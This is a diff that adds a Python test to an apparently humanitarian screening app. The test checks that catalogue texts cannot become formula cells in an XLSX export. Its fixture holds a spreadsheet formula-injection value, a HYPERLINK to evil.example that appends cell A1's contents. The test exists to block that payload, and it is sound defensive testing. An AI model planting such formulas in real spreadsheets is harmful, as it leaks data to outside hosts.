@@ -156,3 +156,19 @@ def test_no_published_interview_is_not_found_not_a_server_error(client, db):
         assert response.status_code == 404 and "not available" in response.json()["error"]["message"]
     client.force_login(membership.user)
     assert client.get("/screening/xlsform.xlsx").status_code == 404
+
+
+def test_no_cell_is_a_formula_even_if_a_text_looks_like_one(interview):
+    """A catalogue text comes from an editor's form; the export is opened in spreadsheets."""
+    from alliance.screening.catalogue import CatalogueError, check
+
+    content = dict(interview.catalogue("mixed-migration-5").content)
+    content["indicators"] = [dict(item) for item in content["indicators"]]
+    content["indicators"][0]["question"] = {**content["indicators"][0]["question"],
+                                            "en": '=HYPERLINK("https://evil.example/?"&A1,"Click")'}
+    with pytest.raises(CatalogueError, match="may not start with"):
+        check(content)
+    book = load_workbook(io.BytesIO(build_xlsform(interview)))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            assert all(cell.data_type != "f" for cell in row)
